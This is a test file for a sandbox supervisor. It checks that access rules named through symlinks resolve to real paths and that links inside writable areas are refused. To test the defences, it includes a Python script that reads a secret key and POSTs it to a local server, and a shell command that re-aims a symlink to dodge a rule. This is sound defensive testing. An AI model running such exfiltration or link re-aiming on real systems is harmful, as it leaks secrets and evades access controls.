/**
 * Rule patterns written through a symlink. The supervisor decides on the kernel's real path of
 * what was opened or run, so a pattern must name real paths: `revoke: read /bin/**` where
 * /bin -> usr/bin (merged /usr) and `after: read DIR/link/**` where link -> secretdir matched
 * nothing before, while Ward printed "revoked" and `ward verify` proved the invariants. Now the
 * plan carries each pattern resolved through the links on its existing prefix, and a pattern
 * through a link inside a writable grant (which a sandboxed command could have made) is refused.
 * Each attack runs in a real supervised sandbox; the same policies are verified, so the proof
 * and the run are about the same thing.
 */
import assert from 'node:assert/strict';
import { existsSync, lstatSync, mkdirSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { compile, run } from '../../src/index.js';
import { PolicyError } from '../../src/errors.js';
import { realPrefix } from '../../src/paths.js';
import { resolveRules } from '../../src/plan/rules.js';
import { launch, type RunRecord } from '../../src/sandbox/launch.js';
import { validatePlan } from '../../src/verify/index.js';
import { modelRules } from '../../src/verify/properties/dynamic.js';
import { verifyPolicy } from '../../src/verify/properties/index.js';
import { fixtureRunOptions, hasCgroup, sandboxFixture, tempDir, which } from '../helpers.js';

const skip = !which('python3') && 'python3 missing';
const binIsLink = (() => {
  try {
    return lstatSync('/bin').isSymbolicLink();
  } catch {
    return false;
  }
})();

let server: Server;
let port = 0;
const received: string[] = [];
before(async () => {
  server = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      received.push(`${req.method} ${req.url} ${body}`);
      res.end('thanks\n');
    });
  });
  port = await new Promise<number>((r) => server.listen(0, '127.0.0.1', () => r((server.address() as AddressInfo).port)));
});
after(() => server.close());

/** Where the host has no cgroup for this user, the runs go degraded (rlimits), which the policy must allow. */
const degraded = hasCgroup ? {} : { sandbox: { allow_degraded: true } };

const status = (out: string, tag: string) => out.match(new RegExp(`^${tag} (.*)$`, 'm'))?.[1];

describe('realPrefix: a path as the kernel resolves it, as far as it exists', () => {
  it('resolves the existing prefix, follows a dangling link, keeps the missing rest', () => {
    const d = tempDir();
    mkdirSync(path.join(d, 'real'));
    symlinkSync('real', path.join(d, 'link'));
    symlinkSync(path.join(d, 'later'), path.join(d, 'dangling'));
    assert.equal(realPrefix(path.join(d, 'link')), path.join(d, 'real'));
    assert.equal(realPrefix(path.join(d, 'link', 'not', 'yet')), path.join(d, 'real', 'not', 'yet'));
    assert.equal(realPrefix(path.join(d, 'dangling', 'f')), path.join(d, 'later', 'f'));
    assert.equal(realPrefix(path.join(d, 'none', 'f')), path.join(d, 'none', 'f'));
    assert.equal(realPrefix('/'), '/');
  });

  it('resolveRules resolves both pattern shapes and keeps destinations; modelRules keeps both forms of each', () => {
    const real = (p: string) => p.replace(/^\/bin(?=\/|$)/, '/usr/bin');
    const rules = [{ after: [{ access: 'read' as const, target: '/bin/**/.env' }, { access: 'connect' as const, target: '*' }], revoke: [{ access: 'exec' as const, target: '/bin' }] }];
    const resolved = resolveRules(rules, real);
    assert.deepEqual(resolved, [{ after: [{ access: 'read', target: '/usr/bin/**/.env' }, { access: 'connect', target: '*' }], revoke: [{ access: 'exec', target: '/usr/bin' }] }]);
    // Either form of the read meets the `after`; both forms are revoked.
    const both = [{ access: 'exec', target: '/bin' }, { access: 'exec', target: '/usr/bin' }];
    assert.deepEqual(modelRules(rules, resolved), [
      { after: [{ access: 'read', target: '/bin/**/.env' }, { access: 'connect', target: '*' }], revoke: both },
      { after: [{ access: 'read', target: '/usr/bin/**/.env' }, { access: 'connect', target: '*' }], revoke: both },
    ]);
    assert.deepEqual(modelRules(resolved, resolved), resolved, 'no link: the rules themselves');
  });
});

describe('a rule revoking a directory named through a symlink (/bin -> usr/bin)', { skip: skip || (!binIsLink && '/bin is not a symlink here') }, () => {
  it('after the trigger, /bin/ls is neither read nor run (it is /usr/bin/ls); before it, both work', async () => {
    const fx = sandboxFixture();
    const trig = path.join(path.dirname(fx.ws), 'trig');
    mkdirSync(trig);
    writeFileSync(path.join(trig, 'trigger'), 'go\n');
    const policy = {
      extends: ['minimal'],
      filesystem: { read: [trig] },
      rules: [{ after: `read ${trig}/trigger`, revoke: ['read /bin/**', 'exec /bin/**'] }],
      invariants: [`never read /bin/** after read ${trig}/trigger`, `never exec /bin/** after read ${trig}/trigger`],
      ...degraded,
    };
    const records: RunRecord[] = [];
    // Shell builtins only after the trigger (every program is under /usr/bin, revoked).
    const script = `
read -r l < /bin/ls && echo "before-read ok" || echo "before-read refused"
/bin/ls -d / >/dev/null && echo "before-exec ok" || echo "before-exec refused"
read -r l < ${trig}/trigger
read -r l < /bin/ls && echo "after-read ok" || echo "after-read refused"
/bin/ls -d / >/dev/null && echo "after-exec ok" || echo "after-exec refused"
`;
    const r = await run({ policy }, ['/bin/sh', '-c', script], fixtureRunOptions(fx, records));
    const out = r.stdout.toString();
    assert.equal(status(out, 'before-read'), 'ok', out + r.stderr.toString());
    assert.equal(status(out, 'before-exec'), 'ok', out);
    assert.equal(status(out, 'after-read'), 'refused', `read /bin/ls after the trigger: ${out}`);
    assert.equal(status(out, 'after-exec'), 'refused', `ran /bin/ls after the trigger: ${out}`);
    const rv = records.find((x) => x.type === 'revocation');
    assert.ok(rv && rv.type === 'revocation' && rv.revoked.includes('read /usr/bin'), `the record names what is enforced: ${JSON.stringify(rv)}`);
    assert.ok(r.denials.some((d) => d.layer === 'supervisor'), 'refusals recorded');

    const v = await verifyPolicy({ policy }, { workspace: fx.ws, env: fx.env });
    for (const id of ['invariant:1', 'invariant:2', 'rules-only-revoke', 'compiled-artefacts']) {
      assert.equal(v.properties.find((p) => p.id === id)?.status, 'PROVED', `${id}: ${JSON.stringify(v.properties.find((p) => p.id === id))}`);
    }
  });
});

describe('"after read a secret, no network" with the secret named through a symlink', { skip }, () => {
  function setup() {
    const fx = sandboxFixture();
    const base = path.dirname(fx.ws);
    mkdirSync(path.join(base, 'secretdir'));
    writeFileSync(path.join(base, 'secretdir', 'key.txt'), 'TOPSECRET-LINKED\n');
    mkdirSync(path.join(base, 'srv'));
    symlinkSync(path.join(base, 'secretdir'), path.join(base, 'srv', 'link'));
    const link = path.join(base, 'srv', 'link');
    const policy = {
      extends: ['minimal'],
      filesystem: { read: [link] },
      network: { allow_local: [port] },
      rules: [{ after: `read ${link}/**`, revoke: 'network' }],
      invariants: [`never connect * after read ${link}/**`],
      ...degraded,
    };
    return { fx, base, link, policy };
  }

  it('the key read through the link fires the rule: the POST carrying it is refused and never arrives', async () => {
    const { fx, link, policy } = setup();
    const records: RunRecord[] = [];
    const py = `
import socket, sys
def post(tag, body):
    try:
        s = socket.create_connection(('127.0.0.1', ${port}), timeout=10)
        s.sendall(b'POST /' + tag.encode() + b' HTTP/1.1\\r\\nHost: h\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)
        while s.recv(4096): pass
        print(tag, 'ok')
    except OSError as e:
        print(tag, 'refused errno=%s' % e.errno)
    sys.stdout.flush()
post('before', b'nothing yet')
key = open('${link}/key.txt', 'rb').read()
post('after', key)
`;
    const r = await run({ policy }, ['python3', '-c', py], fixtureRunOptions(fx, records));
    const out = r.stdout.toString() + r.stderr.toString();
    assert.equal(status(out, 'before'), 'ok', out);
    assert.equal(status(out, 'after'), 'refused errno=13', out);
    assert.ok(!received.some((b) => b.includes('TOPSECRET-LINKED')), `the secret reached the server: ${received.join(' | ')}`);
    const rv = records.find((x) => x.type === 'revocation');
    assert.ok(rv && rv.type === 'revocation' && /secretdir\/key\.txt/.test(rv.trigger), `fired on the real path: ${JSON.stringify(rv)}`);

    const v = await verifyPolicy({ policy }, { workspace: fx.ws, env: fx.env });
    assert.equal(v.properties.find((p) => p.id === 'invariant:1')?.status, 'PROVED', JSON.stringify(v.properties));
    assert.equal(v.properties.find((p) => p.id === 'compiled-artefacts')?.status, 'PROVED', JSON.stringify(v.properties));
  });

  it('the plan carries the resolved pattern; a plan with the pattern as written is caught by the translation check', () => {
    const { fx, base, link, policy } = setup();
    const plan = compile({ policy }, { workspace: fx.ws, env: fx.env });
    assert.deepEqual(plan.rules?.rules[0]?.after, [{ access: 'read', target: path.join(base, 'secretdir') }]);
    assert.deepEqual(validatePlan(plan).findings, []);
    const written = { ...plan, rules: { ...plan.rules!, rules: [{ after: [{ access: 'read' as const, target: link }], revoke: [{ access: 'connect' as const, target: '*' }] }] } };
    const f = validatePlan(written).findings;
    assert.ok(f.some((x) => x.layer === 'supervisor' && x.subject === 'rules' && /resolved through symlinks/.test(x.expected)), JSON.stringify(f));
  });
});

describe('a link changed between compiling and running', () => {
  it('refuses the plan: its rules are no longer the policy\'s as they resolve now', () => {
    const d = tempDir();
    mkdirSync(path.join(d, 'a'));
    mkdirSync(path.join(d, 'b'));
    symlinkSync(path.join(d, 'a'), path.join(d, 'link'));
    const fx = sandboxFixture();
    const policy = { extends: ['minimal'], rules: [{ after: `read ${d}/link/**`, revoke: 'network' }] };
    const plan = compile({ policy }, { workspace: fx.ws, env: fx.env });
    unlinkSync(path.join(d, 'link'));
    symlinkSync(path.join(d, 'b'), path.join(d, 'link'));
    assert.throws(() => launch(plan, ['true']), /dynamic rules are not the policy's as they resolve now/);
  });
});

describe('a rule pattern through a symlink inside a writable grant', () => {
  it('is refused when the link leads out of the grant (the sandbox could have made it), naming the link and the real path', () => {
    const fx = sandboxFixture();
    const outside = path.join(path.dirname(fx.ws), 'elsewhere');
    mkdirSync(outside);
    symlinkSync(outside, path.join(fx.ws, 'secrets'));
    const policy = { extends: ['default'], rules: [{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'network' }] };
    assert.throws(
      () => compile({ policy }, { workspace: fx.ws, env: fx.env }),
      (e: unknown) => e instanceof PolicyError && e.keyPath === 'rules[0].after' && e.message.includes(`${fx.ws}/secrets -> ${outside}`) && (e.fix ?? '').includes(`"read ${outside}"`),
    );
  });

  it('is refused when the link stays inside that grant too: re-aimed between runs, it would turn the next run\'s rule away', () => {
    const fx = sandboxFixture();
    mkdirSync(path.join(fx.ws, 'keys'));
    symlinkSync('keys', path.join(fx.ws, 'secrets'));
    const policy = { extends: ['default'], rules: [{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'network' }] };
    assert.throws(
      () => compile({ policy }, { workspace: fx.ws, env: fx.env }),
      (e: unknown) => e instanceof PolicyError && e.keyPath === 'rules[0].after' && e.message.includes(`${fx.ws}/secrets -> keys, which lies inside the writable grant ${fx.ws}`) && (e.fix ?? '').includes(`"read ${fx.ws}/keys"`),
    );
  });
});

describe('a rule pattern through a link in the workspace, re-aimed by one run for the next', { skip }, () => {
  it('is refused before anything runs; named by its real path, the rule fires in the run after the re-aim', async () => {
    const fx = sandboxFixture();
    for (const d of ['vault', 'sub']) mkdirSync(path.join(fx.ws, d));
    writeFileSync(path.join(fx.ws, 'vault/key'), 'VAULT-KEY\n');
    writeFileSync(path.join(fx.ws, 'sub/data'), 'SUB-DATA\n');
    symlinkSync('vault', path.join(fx.ws, 'secrets'));
    const rules = (p: string) => ({ extends: ['default'], rules: [{ after: `read \${WORKSPACE}/${p}/**`, revoke: 'read ${WORKSPACE}/sub/**' }], ...degraded });
    const records: RunRecord[] = [];
    // Before, this run re-aimed the link, and the next run read vault/key with no rule firing, then sub/data.
    const reaim = 'mkdir decoy && ln -sfn decoy secrets && echo re-aimed';
    await assert.rejects(run({ policy: rules('secrets') }, ['sh', '-c', reaim], fixtureRunOptions(fx, records)), (e: Error) =>
      e.message.includes(`goes through the symlink ${fx.ws}/secrets -> vault, which lies inside the writable grant ${fx.ws}`),
    );
    assert.ok(!existsSync(path.join(fx.ws, 'decoy')), 'nothing ran');
    const first = await run({ policy: rules('vault') }, ['sh', '-c', reaim], fixtureRunOptions(fx, records));
    assert.match(first.stdout.toString(), /re-aimed/);
    const second = await run({ policy: rules('vault') }, ['sh', '-c', 'cat vault/key >/dev/null; cat sub/data'], fixtureRunOptions(fx, records));
    assert.doesNotMatch(second.stdout.toString(), /SUB-DATA/);
    assert.match(second.stderr.toString(), /Permission denied/);
    assert.equal(second.revocations.length, 1, JSON.stringify(second.revocations));
  });
});
